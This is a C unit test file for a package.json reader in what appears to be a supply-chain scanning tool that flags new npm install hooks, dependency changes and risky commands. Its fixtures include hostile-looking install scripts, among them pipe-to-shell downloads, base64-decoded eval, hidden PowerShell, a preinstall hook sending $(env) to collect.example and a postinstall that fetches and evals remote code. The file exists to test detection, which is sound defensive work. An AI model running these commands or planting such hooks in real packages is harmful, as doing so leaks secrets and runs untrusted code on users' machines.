/* package.json: what is a hook, what is a dependency, and what is only a release like any other. */
#include "unit/read/member.h"

#include "read/readers.h"
#include "read/shell_command.h"
#include "read/spec.h"

static struct member *read_pair(const char *path, const char *old, const char *new_)
{
	struct member *m = member_make(path, str_of(old), str_of(new_));

	assert_true(reader_package_json.claim(&m->in) > 50);
	assert_int_equal(reader_package_json.read(&m->in), STATUS_OK);
	assert_int_equal(m->covered[COVER_PARSED], m->in.new_.len);
	return m;
}

static struct member *read_package(const char *old, const char *new_)
{
	return read_pair("package/package.json", old, new_);
}

/* Facts that say more than name and version, and that OLD does not have. */
static size_t telling(const struct member *m)
{
	size_t n = 0;

	for (size_t i = 0; i < m->n_facts; i++) {
		const struct fact *f = &m->facts[i];

		n += !(f->flags & FACT_OF_OLD) &&
			!(f->kind == FACT_MANIFEST &&
				(str_is(f->key, "name") || str_is(f->key, "version")));
	}
	return n;
}

static const char base[] =
	"{\n  \"name\": \"left\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n"
	"  \"scripts\": {\"test\": \"jest\", \"build\": \"tsc\"},\n"
	"  \"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"2.0.0\"}\n}\n";

static void version_bump_says_the_version(void **state)
{
	struct member *m = read_package(base,
		"{\n  \"name\": \"left\",\n  \"version\": \"1.0.1\",\n  \"main\": \"index.js\",\n"
		"  \"scripts\": {\"test\": \"jest\", \"build\": \"tsc\"},\n"
		"  \"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"2.0.0\"}\n}\n");
	const struct fact *f = member_find(m, FACT_MANIFEST, "version");

	assert_int_equal(telling(m), 0);
	assert_str(f->value, "1.0.0");
	assert_true(f->flags & FACT_OF_OLD);
	assert_str(f[1].value, "1.0.1");
	assert_int_equal(f[1].flags, FACT_CHANGED_VALUE);
	assert_int_equal(f[1].line, 3);
	member_free(m);
}

static void formatting_says_nothing(void **state)
{
	struct member *m = read_package(base,
		"{\"version\":\"1.0.0\",\"name\":\"left\",\"dependencies\":{\"b\":\"2.0.0\",\"a\":\"^1.0.0\"},"
		"\"scripts\":{\"build\":\"tsc\",\"test\":\"jest\"},\"main\":\"index.js\"}");

	assert_int_equal(telling(m), 0);
	assert_int_equal(member_count(m, FACT_HOOK, NULL), 0);
	assert_int_equal(m->n_units, 0);
	member_free(m);
}

static void new_hook(void **state)
{
	struct member *m = read_package(base,
		"{\n  \"name\": \"left\",\n  \"version\": \"1.0.1\",\n  \"main\": \"index.js\",\n"
		"  \"scripts\": {\"test\": \"jest\",\n    \"postinstall\": \"node ./lib/setup.js --quiet\"},\n"
		"  \"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"2.0.0\"}\n}\n");
	const struct fact *f = member_find(m, FACT_HOOK, "npm:postinstall");

	assert_non_null(f);
	assert_str(f->value, "node ./lib/setup.js --quiet");
	assert_str(f->detail, "./lib/setup.js");
	assert_int_equal(f->line, 6);
	assert_int_equal(f->flags & (FACT_CHANGED_VALUE | FACT_OF_OLD), 0);
	assert_str(m->units[f->unit].name, "scripts.postinstall");
	assert_int_equal(telling(m), 2); /* the hook, and the file that it runs */
	member_free(m);
}

static void hook_changed_kept_removed(void **state)
{
	static const char old[] =
		"{\"name\":\"x\",\"scripts\":{\"install\":\"node-gyp rebuild\",\"postinstall\":\"node a.js\","
		"\"preinstall\":\"echo hi\"}}";
	struct member *m = read_package(old,
		"{\"name\":\"x\",\"scripts\":{\"install\":\"node-gyp rebuild\",\"postinstall\":\"node b.js\"}}");

	assert_int_equal(
		member_find(m, FACT_HOOK, "npm:install")->flags & FACT_OF_OLD, FACT_OF_OLD);
	assert_true(member_find(m, FACT_HOOK, "npm:postinstall")->flags & FACT_CHANGED_VALUE);
	assert_str(member_find(m, FACT_HOOK, "npm:postinstall")->detail, "b.js");
	assert_true(member_find(m, FACT_HOOK, "npm:preinstall")->flags & FACT_REMOVED);
	member_free(m);
}

/* Scripts that people or publishing start, and manifests that no package manager acts on. */
static void scripts_that_are_no_hooks(void **state)
{
	static const char *const innocent[] = {"test", "build", "prepublishOnly", "prepublish",
		"prepack", "postpack", "prepare", "start", "pretest", "posttest", "version",
		"postversion", "lint", "preinstaller", "postinstall:ci"};
	static const char hooked[] =
		"{\"name\":\"left\",\"scripts\":{\"postinstall\":\"node x.js\"}}";
	struct member *m;

	for (size_t i = 0; i < sizeof(innocent) / sizeof(innocent[0]); i++) {
		char text[200];

		snprintf(text, sizeof(text),
			"{\"name\":\"left\",\"version\":\"1.0.0\",\"scripts\":{\"%s\":\"node x.js\"}}",
			innocent[i]);
		m = read_package("{\"name\":\"left\",\"version\":\"1.0.0\"}", text);
		assert_int_equal(telling(m), 0);
		member_free(m);
	}
	m = read_pair("package/test/fixtures/app/package.json", "{\"name\":\"left\"}", hooked);
	assert_int_equal(member_count(m, FACT_HOOK, NULL), 0);
	member_free(m);
	m = read_pair("app-64.7z!/resources/app.asar!/package.json", "{\"name\":\"left\"}", hooked);
	assert_int_equal(member_count(m, FACT_HOOK, NULL), 0);
	member_free(m);
	m = read_pair("package/node_modules/dep/package.json", "{\"name\":\"left\"}", hooked);
	assert_int_equal(member_count(m, FACT_HOOK, NULL), 1);
	member_free(m);
}

static void dependencies_added_and_changed(void **state)
{
	struct member *m = read_package(
		"{\"name\":\"x\",\"dependencies\":{\"a\":\"^1.0.0\",\"b\":\"2.0.0\",\"c\":\"^1\",\"g\":\"git+https://git.example/g.git#1\"},"
		"\"peerDependencies\":{\"p\":\"*\"},\"devDependencies\":{\"d\":\"1\"}}",
		"{\"name\":\"x\",\"dependencies\":{\"a\":\"^1.1.0\",\"b\":\"^2.0.0\",\"c\":\"npm:other@1\",\"new-one\":\"^4.2.1\","
		"\"p\":\"*\",\"d\":\"1\",\"g\":\"git+https://git.example/g.git#2\"},\"devDependencies\":{\"e\":\"git://git.example/e\"},"
		"\"optionalDependencies\":{\"o\":\"https://files.example/o.tgz\"}}");

	assert_str(member_find(m, FACT_DEP_ADDED, "new-one")->value, "^4.2.1");
	assert_str(member_find(m, FACT_DEP_ADDED, "new-one")->detail, "dependencies");
	assert_str(member_find(m, FACT_DEP_ADDED, "o")->detail, "optionalDependencies");
	assert_non_null(member_find(m, FACT_DEP_ADDED, "d")); /* developers had it, users did not */
	assert_str(member_find(m, FACT_DEP_CHANGED, "a")->detail, "range");
	assert_str(member_find(m, FACT_DEP_CHANGED, "b")->detail, "loosened");
	assert_str(member_find(m, FACT_DEP_CHANGED, "c")->detail, "alias");
	assert_str(member_find(m, FACT_DEP_CHANGED, "g")->detail, "range");
	assert_str(member_find(m, FACT_DEP_CHANGED, "p")->detail, "moved");
	assert_null(member_find(m, FACT_DEP_ADDED, "e"));
	assert_int_equal(member_count(m, FACT_DEP_ADDED, NULL), 3);
	member_free(m);
}

static void who_and_what_starts(void **state)
{
	struct member *m = read_package(
		"{\"name\":\"x\",\"main\":\"a.js\",\"repository\":{\"url\":\"https://git.example/x\"},\"author\":\"A\",\"keywords\":[1]}",
		"{\"name\":\"x\",\"main\":\"b.js\",\"repository\":{\"url\":\"https://git.test/x\"},\"author\":\"A\",\"keywords\":[2]}");

	assert_str(member_find(m, FACT_MANIFEST, "main")->value, "b.js");
	assert_str(member_find(m, FACT_MANIFEST, "main")->detail, "a.js");
	assert_str(member_find(m, FACT_MANIFEST, "repository")->value,
		"{\"url\":\"https://git.test/x\"}");
	assert_str(member_find(m, FACT_IMPORT, "./b.js")->detail, "node");
	assert_int_equal(telling(m), 3);
	member_free(m);
}

/* What is loaded under a name that is no script's is always said, and what others may load never as news. */
static void entries_with_odd_names(void **state)
{
	static const char text[] = "{\"name\":\"x\",\"main\":\"./data.bin\",\"bin\":{\"x\":\"bin/x\"},"
				   "\"exports\":{\".\":[{\"node\":\"./a.svg\"},\"./b.js\"],\"./*\":\"./lib/*.js\"}}";
	struct member *m = read_package(text, text);

	assert_int_equal(telling(m), 0);
	assert_int_equal(member_count(m, FACT_IMPORT, NULL), 3);
	assert_true(member_find(m, FACT_IMPORT, "./data.bin")->flags & FACT_OF_OLD);
	assert_str(member_find(m, FACT_IMPORT, "./bin/x")->detail, IMPORT_AS_PROGRAM);
	assert_str(member_find(m, FACT_IMPORT, "./a.svg")->detail, "node");
	member_free(m);
	m = read_package("{\"name\":\"x\"}", text);
	assert_false(member_find(m, FACT_IMPORT, "./data.bin")->flags & FACT_OF_OLD);
	assert_true(member_find(m, FACT_IMPORT, "./b.js")->flags & FACT_OF_OLD);
	member_free(m);
}

static void duplicate_keys(void **state)
{
	static const char twice[] =
		"{\"name\":\"x\",\n\"scripts\":{\"test\":\"a\"},\n\"scripts\":{\"postinstall\":\"node x.js\"}}";
	struct member *m = read_package("{\"name\":\"x\",\"scripts\":{\"test\":\"a\"}}", twice);

	assert_int_equal(member_count(m, FACT_TRUST, "duplicate-json-key"), 1);
	assert_int_equal(
		member_count(m, FACT_HOOK, "npm:postinstall"), 1); /* the last one counts */
	member_free(m);
	m = read_package(twice, twice);
	assert_int_equal(member_count(m, FACT_TRUST, NULL), 0);
	member_free(m);
}

static void commands(void **state)
{
	static const struct {
		const char *command, *fact, *flow;
	} rows[] = {
		{"curl -s https://cdn.example/i.sh | bash", "fetches", "net>exec"},
		{"wget -q http://192.0.2.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "fetches",
			"net>exec"},
		{"curl -so s.js https://cdn.example/s.js && node s.js", "fetches", "net>exec"},
		{"powershell -w hidden -enc SQBFAFgA", "decodes", NULL},
		{"node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"", "decodes",
			"data>exec"},
		{"echo aGk= | base64 -d | sh", "decodes", "data>exec"},
		{"curl --version", "fetches", NULL},
		{"node-gyp rebuild", NULL, NULL},
		{"husky install", NULL, NULL},
		{"node scripts/build.js", NULL, NULL},
		{"patch-package && ngcc", NULL, NULL},
		{"prebuild-install || node-gyp rebuild", NULL, NULL},
		{"opencollective-postinstall || exit 0", NULL, NULL},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct member *m = member_make("package/package.json", STR_NONE, STR("{}"));
		struct fact at = {.unit = FACT_NO_UNIT};
		const struct fact *f;

		command_facts(&m->in, str_of(rows[i].command), &at);
		f = member_find(m, FACT_COMMAND, NULL);
		if (!!f != !!rows[i].fact)
			print_error("%s\n", rows[i].command);
		assert_int_equal(!!f, !!rows[i].fact);
		if (f)
			assert_str(f->detail, rows[i].fact);
		f = member_find(m, FACT_FLOW, NULL);
		if (!!f != !!rows[i].flow)
			print_error("%s\n", rows[i].command);
		assert_int_equal(!!f, !!rows[i].flow);
		if (f)
			assert_str(f->key, rows[i].flow);
		member_free(m);
	}
}

static void command_files(void **state)
{
	static const char *const rows[][2] = {
		{"node install.js", "install.js"},
		{"node ./scripts/install", "./scripts/install"},
		{"node .", "index.js"},
		{"node --no-warnings \"lib/a b.js\"", "lib/a b.js"},
		{"sh x", "x"},
		{"bash -e ./x.sh", ""},
		{"./setup", "./setup"},
		{"FOO=1 node a.js", "a.js"},
		{"node -e 'x'", ""},
		{"tsc -p .", ""},
		{"echo done", ""},
		{"npm run build || node fallback.mjs", "fallback.mjs"},
		{"\"$INSTDIR\\helper.exe\" /S", "$INSTDIR\\helper.exe"},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		assert_str(command_file(str_of(rows[i][0])), rows[i][1]);
	assert_str(command_program(STR("\"C:\\Program Files\\x.exe\" /S")), "x.exe");
	assert_str(command_program(STR("A=1 /usr/bin/curl x")), "curl");
}

/* The command is read as the script that it is, at its place. */
static void hooks_are_scripts(void **state)
{
	struct member *m = read_package("{\"name\":\"x\"}",
		"{\"name\":\"x\",\n\"scripts\":{\n\"preinstall\":"
		"\"curl -s -d \\\"$(env)\\\" https://collect.example/i\"}}");
	const struct fact *f = member_find(m, FACT_FLOW, "env>net");

	assert_non_null(f);
	assert_int_equal(f->line, 3);
	member_free(m);
	m = read_package("{\"name\":\"x\"}",
		"{\"name\":\"x\",\n\"scripts\":{\n\"postinstall\":"
		"\"node -e \\\"require('https').get('https://collect.example/c',r=>r.on('data',d=>eval(d.toString())))\\\"\"}}");
	f = member_find(m, FACT_FLOW, "net>code");
	assert_non_null(f);
	assert_int_equal(f->line, 3);
	member_free(m);
}

static void specs(void **state)
{
	static const struct {
		const char *old, *new_, *change;
	} rows[] = {
		{"^1.0.0", "^1.1.0", "range"},
		{"1.0.0", "1.0.1", "range"},
		{"1.0.0", "^1.0.0", "loosened"},
		{"^1.0.0", "*", "loosened"},
		{"^1.0.0", "latest", "loosened"},
		{"^1.0.0", "1.2.3", "range"},
		{"^1", "git+ssh://git@git.example/a.git", "source"},
		{"^1", "owner/name", "source"},
		{"owner/name#1", "owner/name#2", "range"},
		{"owner/name", "other/name", "source"},
		{"^1", "https://files.example/a.tgz", "source"},
		{"https://files.example/a-1.tgz", "https://files.example/a-2.tgz", "range"},
		{"https://files.example/a.tgz", "https://files.test/a.tgz", "source"},
		{"^1", "file:../a", "source"},
		{"^1", "npm:b@1", "alias"},
		{"npm:b@1", "npm:b@2", "range"},
		{"npm:b@1", "npm:c@1", "alias"},
		{"npm:@s/b@1", "npm:@s/b@2", "range"},
		{"workspace:*", "^1.0.0", "range"},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (strcmp(spec_change(str_of(rows[i].old), str_of(rows[i].new_)),
			    rows[i].change) != 0)
			print_error("%s -> %s\n", rows[i].old, rows[i].new_);
		assert_string_equal(
			spec_change(str_of(rows[i].old), str_of(rows[i].new_)), rows[i].change);
	}
}

static void malformed(void **state)
{
	static const char *const texts[] = {"", "{", "[1]", "\"x\"", "{\"scripts\":7}",
		"{\"scripts\":{\"install\":[]}}", "{\"dependencies\":{\"a\":{}}}"};

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct member *m = member_make(
			"package/package.json", str_of(base), str_of(texts[i]));

		(void)!reader_package_json.read(&m->in);
		assert_int_equal(m->covered[COVER_PARSED] + m->covered[COVER_SHALLOW] +
				m->covered[COVER_BLIND],
			m->in.new_.len);
		member_free(m);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(version_bump_says_the_version),
		cmocka_unit_test(formatting_says_nothing),
		cmocka_unit_test(new_hook),
		cmocka_unit_test(hook_changed_kept_removed),
		cmocka_unit_test(scripts_that_are_no_hooks),
		cmocka_unit_test(dependencies_added_and_changed),
		cmocka_unit_test(who_and_what_starts),
		cmocka_unit_test(entries_with_odd_names),
		cmocka_unit_test(duplicate_keys),
		cmocka_unit_test(commands),
		cmocka_unit_test(command_files),
		cmocka_unit_test(specs),
		cmocka_unit_test(hooks_are_scripts),
		cmocka_unit_test(malformed),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
